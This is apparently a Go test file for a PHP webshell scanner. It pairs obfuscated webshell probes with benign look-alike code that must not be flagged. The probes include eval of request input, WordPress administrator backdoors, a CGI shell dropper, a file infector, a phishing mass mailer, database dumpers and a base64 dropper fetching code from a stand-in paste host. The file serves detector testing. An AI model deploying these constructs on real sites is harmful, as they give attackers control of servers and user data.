package php

import (
	"encoding/base64"
	"testing"
)

// constructProbes are webshell constructs written for these tests (never
// run) that need more than a direct flow: output-buffer callbacks,
// session handlers, names cut from the script's own path, image
// metadata, ciphers, account backdoors. Each must be reported with the
// rule given.
var constructProbes = []struct{ name, rule, src string }{
	{"output buffer callback named", "php.exec-input", `<?php $s = ""; function keep($c, $d) { global $s; $s = $c; }
		ob_start('keep'); echo $_REQUEST['p']; ob_end_flush(); assert($s);`},
	{"output buffer closure", "php.exec-input", `<?php $s = ""; ob_start(function ($c) { global $s; $s = $c; }); print $_POST['p']; ob_end_clean(); eval($s);`},
	{"global set by a function", "php.exec-input", `<?php function put($v) { global $code; $code = $v; } put($_COOKIE['c']); eval($code);`},
	{"session read handler", "php.exec-input", `<?php function o($p, $n) {} function c() {} function w($i, $d) {} function d($i) {} function g($m) {}
		$r = chr(97) . chr(115) . chr(115) . chr(101) . chr(114) . chr(116); session_id($_GET['x']);
		session_set_save_handler("o", "c", $r, "w", "d", "g"); session_start();`},
	{"name from the file name", "php.dynamic-call-self", `<?php $f = substr(__FILE__, -10, -4); $f($_POST['c']);`},
	{"name xored with the file name", "php.dynamic-call-self", `<?php $k = substr(__FILE__, -5, -4) . "class"; $f = $k ^ hex2bin("12101f040107");
		array_intersect_uassoc(array($_REQUEST['p'] => ""), array(1), $f);`},
	{"exif pattern", "php.exec-input", `<?php $x = exif_read_data('./a.jpg'); preg_replace($x['Make'], $x['Model'], '');`},
	{"request pattern", "php.exec-input", `<?php echo preg_replace($_POST['re'], $_POST['to'], 'x');`},
	{"xxtea packed", "php.exec-input", `<?php function dec($s, $k) { $d = 0x9E3779B9; return $s; }
		eval(dec(base64_decode('` + xxteaProbe + `'), 'key'));`},
	{"wordpress admin from request", "php.admin-backdoor", `<?php function bd() { if (!username_exists($_GET['u'])) { $id = wp_create_user($_GET['u'], $_GET['p']);
		$u = new WP_User($id); $u->set_role('administrator'); } } add_action('wp_head', 'bd');`},
	{"wordpress login as administrator", "php.admin-backdoor", `<?php require 'wp-blog-header.php'; foreach (get_users() as $u) { if (user_can($u->ID, 'administrator')) {
		wp_set_auth_cookie($u->ID); wp_redirect(admin_url()); exit; } }`},
	{"names built on undefined variables", "php.exec-input", `<?php $r = $r . substr("lB12payJCstr_ru0Qk", 9, 5); $r = $r . substr("lNtLReplace", 5, 6);
		$w = $w . $r("Q", "", "ZXZhQbCgkX1BPU1RbMV0pOw=="); $c = $c . $r("x", "", "crexate_function"); $n = $n . "base64_decode"; $e = $c("", $n($w)); $e();`},
	{"name from base conversion", "php.hidden-call", `<?php function l() { $d = 425564251; return hex2bin(dechex($d * 4)); } $f = l(); $f($x);`},
	{"float arithmetic name", "php.exec-input", `<?php $f = hex2bin(dechex(412638425.25 * 4) . dechex(3552351)) . 'decode'; eval($f('ZXZhbCgkX1BPU1RbMV0pOw=='));`},
	{"lambda decoder", "php.exec-input", `<?php $d = create_function('$s', 'return base64_decode($s);'); $r = create_function('$c', 'eval($c);'); $r($d('ZXZhbCgkX1BPU1RbMV0pOw=='));`},
	{"markers stripped by preg_replace", "php.exec-input", `<?php eval(base64_decode(preg_replace(array('/#1/', '/#2/'), array('Z', 'X'), '#1#2ZhbCgkX1BPU1RbMV0pOw==')));`},
	{"GLOBALS array", "php.exec-input", `<?php $GLOBALS = array('c' => pack('c*', 115, 121, 115, 116, 101, 109)); $GLOBALS['c']($_GET['x']);`},
	{"file named by a header", "php.write-input", `<?php file_put_contents($_SERVER['HTTP_X'], $_SERVER['HTTP_Y']);`},
	{"script infector", "php.infector", `<?php foreach (array('../index.php' => 0, '../app/Mage.php' => 0) as $k => $v) { $t = filemtime($k); $buf = file_get_contents($k);
		file_put_contents($k, base64_decode('PD9waHAgLyogeCAqLyA/Pg==') . $buf); touch($k, $t, $t); }`},
	{"template injection", "php.sql-code-injection", `<?php $c = "{\${eval(base64_decode('" . base64_encode($_POST['code']) . "'))}}"; mysql_connect($_POST['h'], $_POST['u'], $_POST['p']);
		mysql_query("UPDATE template SET template='" . $c . "' WHERE title='FORUMHOME'");`},
	{"cgi shell dropper", "php.cgi-dropper", `<?php file_put_contents('c/.htaccess', 'Options +ExecCGI
AddHandler cgi-script .x'); file_put_contents('c/s.x', '#!/bin/sh
echo "Content-type: text/plain"
echo
/bin/sh -c "$QUERY_STRING"'); chmod('c/s.x', 0755);`},
	{"decoded dropper of a dropper", "php.embedded-shell", `<?php $f = fopen($_SERVER['DOCUMENT_ROOT'] . "/tmp/a.php", "w"); fwrite($f, base64_decode('` + dropperProbe + `'));`},
	{"root symlink", "php.symlink-root", `<?php if (isset($_POST['go'])) { mkdir('sym'); symlink('/', 'sym/root.txt'); file_put_contents('sym/.htaccess', "Options Indexes FollowSymLinks"); }`},
	{"root symlink command", "php.cmd-malicious", `<?php system('ln -s / root.txt');`},
	{"mass mailer", "php.mailer", `<?php $list = explode("\n", $_POST['emails']); $h = "From: bank <no-reply@bank.invalid>\r\n";
		for ($i = 0; $i < count($list); $i++) { mail($list[$i], $_POST['subject'], stripslashes($_POST['html']), $h); }`},
	{"database dumper", "php.sql-dump", `<?php $l = mysql_connect($_POST['host'], $_POST['user'], $_POST['pass']); mysql_select_db($_POST['db'], $l);
		$q = mysql_query("show tables"); while ($t = mysql_fetch_array($q)) { $r = mysql_query("select * from $t[0]"); while ($row = mysql_fetch_row($r)) { $out .= implode(",", $row); } }`},
	{"mysqli client class", "php.sql-client", `<?php class DB { var $link; function __construct($h, $u, $p) { $this->link = new mysqli($h, $u, $p); }
		function run($sql) { return $this->link->query($sql); } } $d = new DB($_POST['h'], $_POST['u'], $_POST['p']); $r = $d->run($_POST['q']); print_r($r->fetch_all());`},
	{"PDO client", "php.sql-client", `<?php $pdo = new PDO("mysql:host=" . $_POST['host'] . ";dbname=" . $_POST['db'], $_POST['user'], $_POST['pass']);
		foreach ($pdo->query($_POST['sql']) as $row) { print_r($row); }`},
	{"mysqli subclass real_connect", "php.sql-client", `<?php class Conn extends MySQLi { function open($s, $u, $p) { return $this->real_connect($s, $u, $p); } }
		$g = new Conn; $g->open($_GET['server'], $_GET['username'], $_COOKIE['pw']); $g->multi_query($_POST['query']);`},
	{"settings kept in the session", "php.sql-client", `<?php session_start(); if ($_REQUEST['save']) { savecfg(); } loadsess(); if (db_connect()) { db_query(trim($_REQUEST['q'])); }
		function savecfg() { $_SESSION['DB'] = $_REQUEST['v']; } function loadsess() { global $DB; $DB = $_SESSION['DB']; }
		function db_connect() { global $DB; return mysql_connect($DB['host'], $DB['user'], $DB['pwd']); } function db_query($sql) { return mysql_query($sql); }`},
	{"parameter cleaned twice", "php.exec-input", `<?php function run($c) { $c = trim($c); $c = stripslashes($c); system($c); } run($_GET['x']);`},
}

// xxteaProbe is base64 of "eval($_POST[1]);" encrypted by XXTEA with the
// key "key" (as the PHP implementation's xxtea_encrypt makes it).
const xxteaProbe = "42vNZgs4gZK1cqjkICm1KrVTci8="

// dropperProbe is base64 of a PHP remote dropper: it saves the content of
// a URL as a script under the web root.
var dropperProbe = base64.StdEncoding.EncodeToString([]byte(`<?php function get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }
$p = $_SERVER['DOCUMENT_ROOT'] . "/x.php"; $t = get('https://paste.invalid/raw/a'); $f = fopen($p, 'w'); fwrite($f, $t); fclose($f);`))

// constructBenign are legitimate uses of the same functions: none may be
// reported.
var constructBenign = []struct{ name, src string }{
	{"installer", `<?php $db = new mysqli($_POST['dbhost'], $_POST['dbuser'], $_POST['dbpass']); $db->query("CREATE DATABASE " . $db->real_escape_string($_POST['dbname']));
		foreach (explode(";", file_get_contents('schema.sql')) as $q) { $db->query($q); }`},
	{"SQL console on the site's database", `<?php require 'config.php'; class DB { var $pdo; function __construct($c) { $this->pdo = new PDO($c['dsn'], $c['user'], $c['pass']); }
		function run($sql) { return $this->pdo->query($sql); } } $d = new DB($config); if (current_user_can('manage_options')) { print_r($d->run($_POST['sql'])->fetchAll()); }`},
	{"installer dropping chosen tables", `<?php $l = mysql_connect($_POST['host'], $_POST['user'], $_POST['pass']); function apply($verb, $names) { foreach ($names as $n) { mysql_query("$verb " . $n); } }
		function q($sql) { return mysql_query($sql); } apply("DROP TABLE", $_POST['tables']); q("SHOW TABLES LIKE '" . mysql_real_escape_string($_POST['prefix']) . "%'");`},
	{"language kept in the session", `<?php session_start(); function setlang() { $_SESSION['lang'] = $_GET['lang']; } function lang() { global $L; $L = $_SESSION['lang']; }
		setlang(); lang(); $db = new mysqli('localhost', 'app', 'secret', 'app'); $db->query("SELECT * FROM strings WHERE lang = '" . $db->real_escape_string($L) . "'");`},
	{"output compression", `<?php function squeeze($b) { return preg_replace('/\s+/', ' ', $b); } ob_start('squeeze'); echo $_GET['q']; ob_end_flush();`},
	{"output kept in a global", `<?php $page = ''; ob_start(function ($b) { global $page; $page = $b; return $b; }); echo htmlspecialchars($_GET['q']); ob_end_flush(); file_put_contents('cache/page.html', $page);`},
	{"global setter", `<?php function set_title($t) { global $title; $title = $t; } set_title($_GET['t']); echo htmlspecialchars($title);`},
	{"database sessions", `<?php class H { function read($id) { return db_get($id); } } $h = new H; session_set_save_handler(array($h, 'open'), array($h, 'close'), array($h, 'read'), array($h, 'write'), array($h, 'destroy'), array($h, 'gc')); session_start();`},
	{"named session handlers", `<?php function sess_read($id) { return (string) @file_get_contents("/tmp/s_$id"); } session_set_save_handler('sess_open', 'sess_close', 'sess_read', 'sess_write', 'sess_destroy', 'sess_gc');`},
	{"paths from the file", `<?php $dir = dirname(__FILE__); include $dir . '/config.php'; $name = basename(__FILE__, '.php'); $fn = 'page_' . $name; $fn($_GET);`},
	{"exif display", `<?php $x = exif_read_data($_FILES['f']['tmp_name']); echo htmlspecialchars($x['Model']); file_put_contents('meta/' . md5($x['Make']) . '.txt', $x['Model']);`},
	{"search and replace form", `<?php echo preg_replace('/' . preg_quote($_POST['find'], '/') . '/i', $_POST['to'], $text);`},
	{"registration", `<?php $id = wp_create_user($_POST['user'], $_POST['pass'], $_POST['email']); $u = new WP_User($id); $u->set_role('subscriber');`},
	{"admin creates administrator", `<?php $u = new WP_User(1); $u->set_role('administrator'); wp_insert_user(array('user_login' => 'admin', 'user_pass' => wp_generate_password(), 'role' => 'administrator'));`},
	{"login form", `<?php $user = wp_signon(array('user_login' => $_POST['log'], 'user_password' => $_POST['pwd'])); if (!is_wp_error($user) && user_can($user, 'administrator')) { wp_set_auth_cookie($user->ID); }`},
	{"counter", `<?php $n = $n + 1; echo $n;`},
	{"log by header", `<?php file_put_contents('logs/ua.log', $_SERVER['HTTP_USER_AGENT'] . "\n", FILE_APPEND);`},
	{"log append", `<?php $f = 'logs/app.log'; $old = file_get_contents($f); file_put_contents($f, $old . date('c') . "\n");`},
	{"copy keeping the time", `<?php copy($src, $dst); touch($dst, filemtime($src));`},
	{"template update", `<?php mysql_query("UPDATE template SET template='" . mysql_real_escape_string($_POST['tpl']) . "' WHERE title='header'");`},
	{"cgi configuration", `<?php file_put_contents('.htaccess', "Options +ExecCGI\nAddHandler cgi-script .cgi\n"); file_put_contents('info.cgi', "#!/bin/sh\necho Content-type: text/plain\necho\nuptime\n");`},
	{"decoded configuration written", `<?php file_put_contents('config.php', base64_decode('` + "PD9waHAgJGRiID0gYXJyYXkoJ2hvc3QnID0+ICdsb2NhbGhvc3QnKTsgPz4=" + `'));`},
	{"asset symlink", `<?php symlink(__DIR__ . '/../storage/app/public', __DIR__ . '/storage'); exec('ln -s /var/www/shared/uploads uploads');`},
	{"newsletter", `<?php foreach ($db->query('SELECT email FROM subscribers') as $r) { mail($r['email'], $_POST['subject'], $_POST['body'], 'From: news@example.com'); }`},
	{"installer table check", `<?php $l = mysqli_connect($_POST['dbhost'], $_POST['dbuser'], $_POST['dbpass'], $_POST['dbname']); $r = mysqli_query($l, "SHOW TABLES LIKE 'wp_%'"); echo mysqli_num_rows($r);`},
	{"xxtea encrypt", `<?php function enc($s, $k) { $d = 0x9E3779B9; return base64_encode($s); } echo enc('hello', 'key');`},
}

func TestConstructProbes(t *testing.T) {
	for _, p := range constructProbes {
		t.Run(p.name, func(t *testing.T) { expectRule(t, p.src, p.rule) })
	}
}

func TestConstructBenign(t *testing.T) {
	for _, b := range constructBenign {
		t.Run(b.name, func(t *testing.T) { expectClean(t, b.src) })
	}
}

func TestPregReplace(t *testing.T) {
	cases := []struct {
		pats, reps []string
		subject    string
		want       string
		ok         bool
	}{
		{[]string{"/a(b)/"}, []string{"[$1]"}, "xabx", "x[b]x", true},
		{[]string{"#B#i"}, []string{`\0\0`}, "abc", "abbc", true},
		{[]string{"/a/", "/b/"}, []string{"1"}, "ab", "11", true},
		{[]string{"/a/", "/b/"}, []string{"1", "2"}, "ab", "12", true},
		{[]string{"/x/e"}, []string{"y"}, "x", "", false},
		{[]string{"/(?<=a)b/"}, []string{"c"}, "ab", "", false},
		{[]string{"/a/"}, []string{"$"}, "a", "$", true},
	}
	for _, c := range cases {
		got, ok := pregReplace(c.pats, c.reps, c.subject)
		if ok != c.ok || ok && got != c.want {
			t.Errorf("%q %q on %q: %q %v, want %q %v", c.pats, c.reps, c.subject, got, ok, c.want, c.ok)
		}
	}
}

// FuzzPregReplace: no panic, and the result stays within the bound.
func FuzzPregReplace(f *testing.F) {
	f.Add("/a(b)/i", "[$1]", "xABx")
	f.Add("/x*/", "$0$0$0$0", "xxxx")
	f.Add("#(#", "", "")
	f.Fuzz(func(t *testing.T, pat, rep, subject string) {
		out, ok := pregReplace([]string{pat, pat}, []string{rep}, subject)
		if ok && len(out) > maxPregSubject {
			t.Fatalf("%d bytes", len(out))
		}
	})
}

// FuzzBaseConvert: no panic on any input.
func FuzzBaseConvert(f *testing.F) {
	f.Add("1702257004")
	f.Add("-1.5e300")
	f.Add("0x1f")
	f.Fuzz(func(t *testing.T, s string) {
		for _, name := range []string{"dechex", "decoct", "decbin", "hexdec", "octdec", "bindec"} {
			baseConvert(name, s)
		}
	})
}
